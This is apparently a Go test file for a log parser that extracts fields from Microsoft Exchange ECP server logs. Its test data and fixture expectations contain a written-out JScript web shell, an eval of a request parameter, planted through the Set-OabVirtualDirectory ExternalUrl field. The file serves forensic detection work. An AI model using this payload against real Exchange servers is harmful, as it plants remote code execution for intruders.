package logs

import (
	"testing"

	"github.com/google/go-cmp/cmp"
)

func TestECPItem(t *testing.T) {
	const payload = `S:TIME=42;S:SID=x;S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["klk123456"],"unsafe");}</script>''.Identity=''3a7f'';S:REQID=;S:URL=/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory`
	tests := []struct {
		data, name string
		want       *string
	}{
		{payload, "CMD", ptr(`Set-OabVirtualDirectory.ExternalUrl=''http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["klk123456"],"unsafe");}</script>''.Identity=''3a7f''`)},
		{payload, "TIME", ptr("42")},
		{payload, "REQID", ptr("")},
		{payload, "URL", ptr("/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory")},
		{payload, "ID", nil}, // "S:SID=" must not match "ID"
		{payload, "EX", nil},
		{"S:CMD=Get-User", "CMD", ptr("Get-User")},
		{"xS:CMD=no;S:CMD=yes", "CMD", ptr("yes")},
		{"", "CMD", nil},
	}
	for _, tt := range tests {
		got := ECPItem([]byte(tt.data), tt.name)
		var gp *string
		if got != nil {
			s := string(got)
			gp = &s
		}
		if diff := cmp.Diff(tt.want, gp); diff != "" {
			t.Errorf("ECPItem(%.30q, %q) (-want +got):\n%s", tt.data, tt.name, diff)
		}
	}
	// Through the reader, on the fixture.
	r := openFixture(t, "testdata/exchange/Logging/ECP/Server/ECPServer20210305-1.LOG")
	var cmds []string
	for r.Next() {
		cmds = append(cmds, string(ECPItem(r.Record().Lookup("EventData"), "CMD")))
	}
	want := []string{"Get-OabVirtualDirectory.Identity='x'",
		`Set-OabVirtualDirectory.ExternalUrl=''http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["klk123456"],"unsafe");}</script>''.Identity=''3a7f4c2e-1d2b-4c5d-9e8f-0a1b2c3d4e5f''`,
		"Set-OabVirtualDirectory.ExternalUrl=$null.Identity=''3a7f4c2e-1d2b-4c5d-9e8f-0a1b2c3d4e5f''",
		"Get-InboxRule", "Get-User"}
	if diff := cmp.Diff(want, cmds); diff != "" {
		t.Errorf("fixture cmds (-want +got):\n%s", diff)
	}
}

func ptr(s string) *string { return &s }
